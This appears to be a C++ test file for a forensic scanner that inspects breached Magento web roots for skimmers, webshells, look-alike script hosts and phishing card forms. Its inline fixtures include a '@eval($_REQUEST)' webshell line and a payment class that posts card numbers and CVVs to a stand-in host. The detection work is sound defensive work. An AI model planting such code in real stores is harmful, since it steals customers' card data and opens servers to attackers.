// InvestigateWebroot over a case whose evidence store holds a small breached Magento tree.
#include <gtest/gtest.h>

#include <filesystem>
#include <map>
#include <thread>

#include "casefile/casefile.h"
#include "core/sha256.h"
#include "support/testing.h"
#include "webroot/findings.h"
#include "webroot/webroot.h"

namespace tq::webroot {
namespace {

const std::string kSrc = TQ_SOURCE_DIR;
constexpr int64_t kDay = 86400ll * 1000000000ll;
constexpr int64_t kRelease = 1700000000ll * 1000000000ll;

// Puts a file into the case the way collect does: object by SHA-256, one evidence row.
void AddFile(Case& c, const std::string& path, const std::string& bytes, int64_t mtime_ns) {
  std::string sha = Sha256Hex(bytes);
  std::string obj = c.ObjectPath(sha);
  std::filesystem::create_directories(std::filesystem::path(obj).parent_path());
  testing::WriteFile(obj, bytes);
  auto st = c.db().Prepare(
      "INSERT INTO evidence_items(sha256, label, original_path, kind, size, mode, mtime_ns, "
      "ctime_ns, collected_at, source) VALUES (?, 'webroot', ?, 'file', ?, 420, ?, ?, 1, 'src')");
  ASSERT_TRUE(st.ok());
  st->Bind(1, sha)
      .Bind(2, path)
      .Bind(3, static_cast<int64_t>(bytes.size()))
      .Bind(4, mtime_ns)
      .Bind(5, mtime_ns);
  ASSERT_TRUE(st->Run().ok());
}

std::string Sample(const std::string& name) {
  return testing::ReadFile(kSrc + "/src/webroot/testdata/" + name);
}

class InvestigateTest : public ::testing::Test {
 protected:
  void SetUp() override {
    CaseInfo info;
    info.name = "test";
    auto c = Case::Create(dir.path() + "/case", info);
    ASSERT_TRUE(c.ok()) << c.status().ToString();
    the_case = std::move(*c);
    clean = {
        {"app/etc/di.xml", "<config/>"},
        {"app/etc/env.php", "<?php return ['crypt' => ['key' => 'x']];"},
        {"composer.lock",
         R"({"packages":[{"name":"magento/product-community-edition","version":"2.4.6-p5"}]})"},
        {"pub/index.php", "<?php require __DIR__ . '/../app/bootstrap.php';"},
        {"pub/static/frontend/Magento/luma/en_US/requirejs/require.js",
         Sample("benign/require.js")},
        {"pub/static/frontend/Magento/luma/en_US/jquery/jquery.easing.min.js",
         Sample("benign/packed_plugin.min.js")},
        {"pub/static/frontend/Magento/luma/en_US/Magento_Payment/js/cc-form.js",
         Sample("benign/cc-form.js")},
        {"pub/media/catalog/product/a/b/shoe.png", Sample("benign/product.png")},
        {"pub/media/logo.css", Sample("benign/logo-inline.css")},
        {"vendor/acme/jwt/src/Base64Url.php", Sample("benign/Base64Url.php")},
        {"vendor/acme/tpl/src/Environment.php", Sample("benign/TemplateLoader.php")},
    };
    for (int i = 0; i < 8; ++i)
      clean["app/code/Acme/Mod/Model/M" + std::to_string(i) + ".php"] =
          "<?php class M" + std::to_string(i) + " {}";
  }
  void AddTree(const std::map<std::string, std::string>& tree) {
    ASSERT_TRUE(the_case->db().Exec("BEGIN").ok());
    for (auto& [p, b] : tree) AddFile(*the_case, p, b, kRelease);
    ASSERT_TRUE(the_case->db().Exec("COMMIT").ok());
  }
  WebrootOptions Options() {
    WebrootOptions o;
    o.yara_paths = {kSrc + "/rules/yara"};
    o.advisory_dirs = {kSrc + "/data/advisories"};
    o.cache_dir = dir.path() + "/cache";
    return o;
  }
  // The tree investigated for a store at https://www.shop.example.com/: findings by path.
  std::map<std::string, std::set<std::string>> InvestigateShop(
      const std::map<std::string, std::string>& tree) {
    AddTree(tree);
    EXPECT_TRUE(the_case->db()
                    .Exec("UPDATE case_info SET store_url = 'https://www.shop.example.com/'")
                    .ok());
    auto r = InvestigateWebroot(*the_case, Options());
    EXPECT_TRUE(r.ok()) << r.status().ToString();
    return FindingsByPath();
  }
  std::map<std::string, std::set<std::string>> FindingsByPath() {
    std::map<std::string, std::set<std::string>> out;
    auto all = ListFindings(the_case->db(), "webroot.");
    EXPECT_TRUE(all.ok());
    for (const Finding& f : *all) {
      size_t a = f.dedupe_key.find('|'), b = f.dedupe_key.find('|', a + 1);
      out[f.dedupe_key.substr(a + 1, b - a - 1)].insert(f.kind);
    }
    return out;
  }
  // The severity of each file's finding of one kind (its path -> severity).
  std::map<std::string, Severity> SeverityByPath(std::string_view kind) {
    std::map<std::string, Severity> out;
    auto all = ListFindings(the_case->db(), "webroot.");
    EXPECT_TRUE(all.ok());
    for (const Finding& f : *all) {
      size_t a = f.dedupe_key.find('|'), b = f.dedupe_key.find('|', a + 1);
      if (f.kind == kind) out[f.dedupe_key.substr(a + 1, b - a - 1)] = f.severity;
    }
    return out;
  }
  testing::TempDir dir;
  std::unique_ptr<Case> the_case;
  std::map<std::string, std::string> clean;
};

TEST_F(InvestigateTest, CleanTreeHasNoFileFindings) {
  AddTree(clean);
  auto r = InvestigateWebroot(*the_case, Options());
  ASSERT_TRUE(r.ok()) << r.status().ToString();
  for (const Status& s : r->item_errors) ADD_FAILURE() << s.ToString();
  auto by_path = FindingsByPath();
  for (auto& [path, kinds] : by_path)
    for (const std::string& k : kinds)
      EXPECT_TRUE(k == "webroot.platform" || k == "webroot.advisory") << path << " " << k;
  EXPECT_EQ(r->installations.size(), 1u);
}

TEST_F(InvestigateTest, BreachedTreeFindsEveryPlantedFileAndTheAdvisory) {
  std::map<std::string, std::string> tree = clean;
  std::string js = tree["pub/static/frontend/Magento/luma/en_US/requirejs/require.js"];
  tree["pub/static/frontend/Magento/luma/en_US/mage/cookies.js"] =
      "define([],function(){});\n" + Sample("malicious/checkout_harvester.js");
  tree["pub/media/wysiwyg/.cache/favicon_2.ico"] = Sample("malicious/favicon_cache.ico");
  tree["pub/media/tmp/catalog/cache.php"] = Sample("malicious/shell_eval_post.php");
  tree["pub/media/customer/index.php"] = "<?php\n// Silence is golden.\n";
  tree["pub/.user.ini"] = Sample("malicious/dot_user.ini");
  tree["vendor/magento/module-payment/Model/Method/Cc.php"] = Sample("malicious/card_capture.php");
  AddTree(tree);
  auto r = InvestigateWebroot(*the_case, Options());
  ASSERT_TRUE(r.ok()) << r.status().ToString();
  auto by_path = FindingsByPath();
  EXPECT_TRUE(
      by_path["pub/static/frontend/Magento/luma/en_US/mage/cookies.js"].count("webroot.yara"));
  EXPECT_TRUE(by_path["pub/media/wysiwyg/.cache/favicon_2.ico"].count("webroot.disguised_php"));
  EXPECT_TRUE(by_path["pub/media/wysiwyg/.cache/favicon_2.ico"].count("webroot.yara"));
  EXPECT_TRUE(by_path["pub/media/tmp/catalog/cache.php"].count("webroot.misplaced_php"));
  EXPECT_TRUE(by_path["pub/media/tmp/catalog/cache.php"].count("webroot.yara"));
  EXPECT_TRUE(by_path["pub/.user.ini"].count("webroot.yara"));
  EXPECT_TRUE(by_path["vendor/magento/module-payment/Model/Method/Cc.php"].count("webroot.yara"));
  EXPECT_FALSE(by_path.count("pub/media/customer/index.php"));
  EXPECT_FALSE(by_path.count("pub/static/frontend/Magento/luma/en_US/requirejs/require.js"));
  EXPECT_FALSE(by_path.count("pub/static/frontend/Magento/luma/en_US/jquery/jquery.easing.min.js"));
  EXPECT_FALSE(by_path.count("vendor/acme/jwt/src/Base64Url.php"));
  // The installed version and its advisory, with the fixed version.
  bool cosmic = false;
  for (const VulnerableComponent& v : r->vulnerable)
    if (v.cve == "CVE-2024-34102") {
      cosmic = true;
      EXPECT_EQ(v.version, "2.4.6-p5");
      EXPECT_EQ(v.fixed, "2.4.6-p6");
    }
  EXPECT_TRUE(cosmic);
  auto fixed = the_case->db().Prepare(
      "SELECT fixed FROM webroot_vulnerability WHERE cve = 'CVE-2024-34102'");
  ASSERT_TRUE(fixed.ok());
  ASSERT_TRUE(*fixed->Step());
  EXPECT_EQ(fixed->String(0), "2.4.6-p6");
  // A YARA finding carries the offset, line and an escaped snippet.
  auto yara = ListFindings(the_case->db(), "webroot.yara");
  ASSERT_TRUE(yara.ok());
  bool offsets = false;
  for (const Finding& f : *yara)
    if (f.rule == "skimmers:Skimmer_JS_CheckoutHarvester") {
      offsets = f.byte_offset.has_value() && f.line.value_or(0) >= 2 &&
                f.detail_json.find("\"snippet\"") != std::string::npos &&
                f.detail_json.find("\"sha256\"") != std::string::npos;
    }
  EXPECT_TRUE(offsets);
  // Re-running refreshes, never duplicates.
  int64_t before = *the_case->db().QueryInt("SELECT count(*) FROM findings");
  auto again = InvestigateWebroot(*the_case, Options());
  ASSERT_TRUE(again.ok());
  EXPECT_TRUE(again->rules_from_cache);
  EXPECT_EQ(*the_case->db().QueryInt("SELECT count(*) FROM findings"), before);
  EXPECT_EQ(*the_case->db().QueryInt("SELECT count(*) FROM webroot_platform"), 1);
}

TEST_F(InvestigateTest, BaselineManifestGivesAddedModifiedRemovedAndSkipsVouchedFiles) {
  std::string manifest;
  for (auto& [p, b] : clean) manifest += Sha256Hex(b) + "  ./" + p + "\n";
  manifest += Sha256Hex("gone") + "  pub/media/.htaccess\n";
  testing::WriteFile(dir / "release.sha256", manifest);
  std::map<std::string, std::string> tree;
  for (auto& [p, b] : clean) tree["var/www/html/" + p] = b;
  tree["var/www/html/pub/index.php"] =
      "<?php require __DIR__ . '/../app/bootstrap.php'; @eval($_REQUEST['x']);";
  tree["var/www/html/app/code/Acme/Mod/Model/Helper.php"] = "<?php class Helper {}";
  tree["var/www/html/pub/media/catalog/product/a/b/boot.png"] = Sample("benign/product.png") + "x";
  AddTree(tree);
  WebrootOptions o = Options();
  o.baseline = dir / "release.sha256";
  auto r = InvestigateWebroot(*the_case, o);
  ASSERT_TRUE(r.ok()) << r.status().ToString();
  EXPECT_EQ(r->modified, 1u);
  EXPECT_EQ(r->added, 2u);
  EXPECT_EQ(r->removed, 1u);
  EXPECT_EQ(r->vouched, r->unique_contents - 3);
  auto by_path = FindingsByPath();
  EXPECT_TRUE(by_path["var/www/html/pub/index.php"].count("webroot.integrity"));
  EXPECT_TRUE(by_path["var/www/html/pub/index.php"].count("webroot.yara"));
  EXPECT_TRUE(
      by_path["var/www/html/app/code/Acme/Mod/Model/Helper.php"].count("webroot.integrity"));
  EXPECT_TRUE(by_path["var/www/html/pub/media/.htaccess"].count("webroot.integrity"));
  EXPECT_FALSE(by_path.count("var/www/html/pub/media/catalog/product/a/b/boot.png"));
}

TEST_F(InvestigateTest, BreachWindowFromLogFindingsAndUpgradeTarget) {
  std::map<std::string, std::string> tree = clean;
  AddTree(tree);
  // A file changed during the window the log stage found, and one outside it.
  ASSERT_TRUE(the_case->db().Exec("BEGIN").ok());
  AddFile(*the_case, "app/code/Acme/Mod/Observer/Late.php", "<?php class Late {}",
          kRelease + 200 * kDay);
  ASSERT_TRUE(the_case->db().Exec("COMMIT").ok());
  // The window the logs stage's findings make (analysis::LogsWindow, in the investigate command).
  BreachWindow window{(kRelease + 199 * kDay) / 1000, (kRelease + 201 * kDay) / 1000};
  auto r = InvestigateWebroot(*the_case, Options(), window);
  ASSERT_TRUE(r.ok()) << r.status().ToString();
  auto by_path = FindingsByPath();
  EXPECT_TRUE(by_path["app/code/Acme/Mod/Observer/Late.php"].count("webroot.timing"));
  EXPECT_FALSE(by_path["app/code/Acme/Mod/Model/M1.php"].count("webroot.timing"));
  auto st = the_case->db().Prepare("SELECT fixed_version FROM webroot_platform");
  ASSERT_TRUE(st.ok());
  ASSERT_TRUE(*st->Step());
  EXPECT_EQ(st->String(0), "2.4.6-p13");  // closes CVE-2024-34102 and CVE-2025-54236
}

// The investigate command scans while the logs stage runs (ListWebroot, ScanWebroot on its
// own thread, RecordWebroot in the web root's turn, with the window the logs stage's findings
// make): the case ends as one InvestigateWebroot leaves it, whatever the case database saw
// meanwhile.
TEST_F(InvestigateTest, ScanOnItsOwnThreadWhileTheLogsStageWritesGivesTheSameCase) {
  std::map<std::string, std::string> tree = clean;
  tree["pub/media/tmp/catalog/cache.php"] = Sample("malicious/shell_eval_post.php");
  tree["pub/static/frontend/Magento/luma/en_US/mage/cookies.js"] =
      "define([],function(){});\n" + Sample("malicious/checkout_harvester.js");
  AddTree(tree);
  ASSERT_TRUE(the_case->db().Exec("BEGIN").ok());
  AddFile(*the_case, "app/code/Acme/Mod/Observer/Late.php", "<?php class Late {}",
          kRelease + 200 * kDay);
  ASSERT_TRUE(the_case->db().Exec("COMMIT").ok());
  auto listed = ListWebroot(*the_case);
  ASSERT_TRUE(listed.ok()) << listed.status().ToString();
  std::shared_ptr<WebrootScan> scan = *listed;
  Status scanned = Status::Internal("not run");
  std::thread scanner([&] { scanned = ScanWebroot(Options(), *scan); });
  for (int64_t day : {199, 201}) {  // the logs stage, meanwhile
    Finding f;
    f.kind = "log.rule_hit";
    f.component = "logs";
    f.severity = Severity::kHigh;
    f.summary = "exploit";
    f.event_time = (kRelease + day * kDay) / 1000;
    f.dedupe_key = "test-log-" + std::to_string(day);
    ASSERT_TRUE(UpsertFinding(the_case->db(), f).ok());
  }
  scanner.join();
  ASSERT_TRUE(scanned.ok()) << scanned.ToString();
  BreachWindow window{(kRelease + 199 * kDay) / 1000, (kRelease + 201 * kDay) / 1000};
  auto split = RecordWebroot(*the_case, *scan, window);
  ASSERT_TRUE(split.ok()) << split.status().ToString();
  auto snapshot = [&] {
    std::map<std::string, std::string> out;
    auto all = ListFindings(the_case->db(), "webroot.");
    EXPECT_TRUE(all.ok());
    for (const Finding& f : *all)
      out[f.dedupe_key] = std::string(SeverityName(f.severity)) + " " + f.summary;
    return out;
  };
  std::map<std::string, std::string> after_split = snapshot();
  auto by_path = FindingsByPath();
  EXPECT_TRUE(by_path["app/code/Acme/Mod/Observer/Late.php"].count("webroot.timing"));
  EXPECT_TRUE(by_path["pub/media/tmp/catalog/cache.php"].count("webroot.yara"));
  auto whole = InvestigateWebroot(*the_case, Options(), window);
  ASSERT_TRUE(whole.ok()) << whole.status().ToString();
  EXPECT_EQ(snapshot(), after_split);
  EXPECT_EQ(split->findings, whole->findings);
  EXPECT_EQ(split->scanned, whole->scanned);
  EXPECT_EQ(split->findings_by_kind, whole->findings_by_kind);
}

TEST_F(InvestigateTest, UnreadableObjectIsReportedNotFatal) {
  AddTree(clean);
  std::string sha = Sha256Hex(clean["pub/index.php"]);
  std::filesystem::remove(the_case->ObjectPath(sha));
  auto r = InvestigateWebroot(*the_case, Options());
  ASSERT_TRUE(r.ok());
  ASSERT_EQ(r->item_errors.size(), 1u);
  EXPECT_NE(r->item_errors[0].message().find("No such file"), std::string::npos)
      << r->item_errors[0].ToString();
}

}  // namespace
}  // namespace tq::webroot

namespace tq::webroot {
namespace {

// The false alarms seen on clean trees, and severities decided by behaviour or by two
// independent traits.
TEST_F(InvestigateTest, SeverityNeedsBehaviourOrTwoTraits) {
  std::map<std::string, std::string> tree = clean;
  tree["pub/media/catalog/product/x/pixel.png"] = Sample("benign/pixel_tag.png");
  tree["vendor/acme/storage/src/PublicFilesManagerInterface.php"] =
      Sample("benign/files_manager_interface.php");
  tree["pub/backup.sql"] = "-- placeholder, intentionally empty\n";
  std::string dump = "-- MySQL dump 10.13\nCREATE TABLE `customer` (id int);\n";
  while (dump.size() < 4096) dump += "INSERT INTO `customer` VALUES (1);\n";
  tree["var/db.sql"] = dump;
  tree["app/code/Vendor/Licensed/Model/Engine.php"] =
      "<?php if(!extension_loaded('ionCube Loader')){$__oc=strtolower(substr(php_uname(),0,3));"
      "@dl('ioncube_loader_'.$__oc.'.so');} return; ?>\nHR+cPo2kEaZ3zq1VJr8TxC8HyGmbpL0Hx6yH8s6q";
  // The same licence-encoded file where the platform keeps only generated assets: misplaced PHP.
  tree["pub/static/frontend/Acme/t/en_US/js/cfg.php"] =
      "<?php @Zend;\n4123;\n/* This file was encoded by the Zend Guard */\n\x01\x7f\x02x\x9c";
  tree["app/code/Acme/Mod/Helper/Cache.php"] = Sample("malicious/normalised_request_exec.php");
  AddTree(tree);
  auto r = InvestigateWebroot(*the_case, Options());
  ASSERT_TRUE(r.ok()) << r.status().ToString();
  auto all = ListFindings(the_case->db(), "webroot.");
  ASSERT_TRUE(all.ok());
  std::map<std::string, Severity> worst;
  std::map<std::string, std::set<std::string>> kinds;
  for (const Finding& f : *all) {
    size_t a = f.dedupe_key.find('|'), b = f.dedupe_key.find('|', a + 1);
    std::string path = f.dedupe_key.substr(a + 1, b - a - 1);
    kinds[path].insert(f.kind);
    if (!worst.count(path) || f.severity > worst[path]) worst[path] = f.severity;
  }
  EXPECT_FALSE(kinds.count("pub/media/catalog/product/x/pixel.png"));
  EXPECT_FALSE(kinds.count("vendor/acme/storage/src/PublicFilesManagerInterface.php"));
  EXPECT_EQ(worst["pub/backup.sql"], Severity::kLow);
  EXPECT_EQ(worst["var/db.sql"], Severity::kCritical);
  EXPECT_TRUE(kinds["app/code/Vendor/Licensed/Model/Engine.php"].count("webroot.licence_encoded"));
  EXPECT_LE(worst["app/code/Vendor/Licensed/Model/Engine.php"], Severity::kLow);
  EXPECT_TRUE(kinds["pub/static/frontend/Acme/t/en_US/js/cfg.php"].count("webroot.misplaced_php"));
  EXPECT_EQ(worst["pub/static/frontend/Acme/t/en_US/js/cfg.php"], Severity::kHigh);
  // Escaped name folded, then request input reaching assert: critical, from the behaviour
  // and from the code-scoped rule on the normalised text.
  EXPECT_EQ(worst["app/code/Acme/Mod/Helper/Cache.php"], Severity::kCritical);
  EXPECT_TRUE(kinds["app/code/Acme/Mod/Helper/Cache.php"].count("webroot.behaviour"));
}

TEST_F(InvestigateTest, ScriptHostsAcrossTheTree) {
  std::map<std::string, std::string> tree = clean;
  // The store's CDN, loaded by several templates; its own host; a well-known provider; and
  // one template alone loading from a host nothing else uses.
  for (int i = 0; i < 3; ++i)
    tree["app/design/frontend/Acme/t/templates/p" + std::to_string(i) + ".html"] =
        "<html><script src=\"https://cdn.acme-assets.example/a.js\"></script></html>";
  tree["app/design/frontend/Acme/t/templates/own.html"] =
      "<script src=\"https://static.shop.example.com/x.js\"></script>";
  tree["app/design/frontend/Acme/t/templates/pay.html"] =
      "<script src=\"https://js.stripe.com/v3/\"></script>";
  tree["app/design/frontend/Acme/t/templates/footer.html"] =
      "<div>footer</div><script src=//analytics-cdn.example.top/f.js></script>";
  // A host named like a service it is not (a look-alike of Google's or jQuery's).
  tree["app/design/frontend/Acme/t/templates/head.phtml"] =
      "<?php echo $block->getTitle(); ?><script src=\"https://google-analytics.com.example.top/"
      "ga.js\"></script>";
  tree["app/design/frontend/Acme/t/templates/lib.html"] =
      "<script src=\"//cdn.jquery-stat.example.org/lib.js\"></script>";
  // Echoed from PHP: plainly (a foreign host, medium), or decoded from base64 (high).
  tree["app/design/frontend/Acme/t/templates/echo.phtml"] =
      "<?php echo '<script src=\"//cdn.acme-widgets.example.top/w.js\"></script>'; ?>";
  tree["app/design/frontend/Acme/t/templates/b64.phtml"] =
      "<?php echo "
      "base64_decode('PHNjcmlwdCBzcmM9Imh0dHBzOi8vY2RuLXN0YXQuZXhhbXBsZS50b3AvYS5qcyI+PC9zY3JpcHQ+'"
      "); ?>";
  tree["app/design/frontend/Acme/t/templates/jq.html"] =
      "<script src=\"https://code.jquery.com/jquery-3.7.1.min.js\"></script>";
  auto by_path = InvestigateShop(tree);
  std::string t = "app/design/frontend/Acme/t/templates/";
  std::map<std::string, Severity> foreign = SeverityByPath("webroot.foreign_script");
  EXPECT_EQ(foreign[t + "footer.html"], Severity::kMedium);
  EXPECT_EQ(foreign[t + "head.phtml"], Severity::kHigh);
  EXPECT_EQ(foreign[t + "lib.html"], Severity::kHigh);
  EXPECT_FALSE(foreign.count(t + "jq.html"));
  EXPECT_EQ(foreign[t + "echo.phtml"], Severity::kMedium);
  EXPECT_EQ(foreign[t + "b64.phtml"], Severity::kHigh);
  for (std::string f : {"p0.html", "p1.html", "pay.html", "own.html"})
    EXPECT_FALSE(by_path[t + f].count("webroot.foreign_script")) << f;
}

TEST_F(InvestigateTest, CardFormsPostingToTheStoreOrAGatewayAreNotFlagged) {
  std::map<std::string, std::string> tree = clean;
  std::string form = "<input name=\"payment[cc_number]\"><input name=\"payment[cc_cid]\"></form>";
  std::string t = "app/design/frontend/Acme/t/templates/";
  tree[t + "own.html"] = "<form action=\"https://shop.example.com/pay\">" + form;
  tree[t + "gateway.html"] =
      "<form action=\"https://secure.authorize.net/gateway/transact.dll\">" + form;
  tree[t + "phish.html"] = "<form action=\"https://shop-example.example.top/pay\">" + form;
  auto by_path = InvestigateShop(tree);
  EXPECT_TRUE(by_path[t + "phish.html"].count("webroot.behaviour"));
  EXPECT_FALSE(by_path[t + "own.html"].count("webroot.behaviour"));
  EXPECT_FALSE(by_path[t + "gateway.html"].count("webroot.behaviour"));
}

// Card data posted to a host that is no payment provider's: medium in an extension of its own
// (a regional gateway looks the same), high from the platform's own payment code.
TEST_F(InvestigateTest, CardSentAwayFromThePlatformsOwnCodeIsHigh) {
  std::map<std::string, std::string> tree = clean;
  std::string sender =
      "<?php class Cc { public function capture($payment) {\n"
      "  $d = array('n' => $payment->getCcNumber(), 'c' => $payment->getCcCid());\n"
      "  $ch = curl_init('https://stats.example.net/collect');\n"
      "  curl_setopt($ch, CURLOPT_POSTFIELDS, http_build_query($d)); curl_exec($ch); } }";
  std::string core = "vendor/magento/module-payment/Model/Method/Cc.php";
  std::string m1 = "app/code/core/Mage/Payment/Model/Method/Cc.php";
  std::string ext = "app/code/Acme/Gateway/Model/Cc.php";
  tree[core] = sender;
  tree[m1] = sender;
  tree[ext] = sender;
  InvestigateShop(tree);
  auto sev = SeverityByPath("webroot.behaviour");
  EXPECT_EQ(sev[core], Severity::kHigh);
  EXPECT_EQ(sev[m1], Severity::kHigh);
  EXPECT_EQ(sev[ext], Severity::kMedium);
  EXPECT_TRUE(PlatformCorePath("shop/WP-INCLUDES/pluggable.php"));
  EXPECT_FALSE(PlatformCorePath("app/code/Acme/vendor/magento-tools/x.php"));
}

}  // namespace
}  // namespace tq::webroot
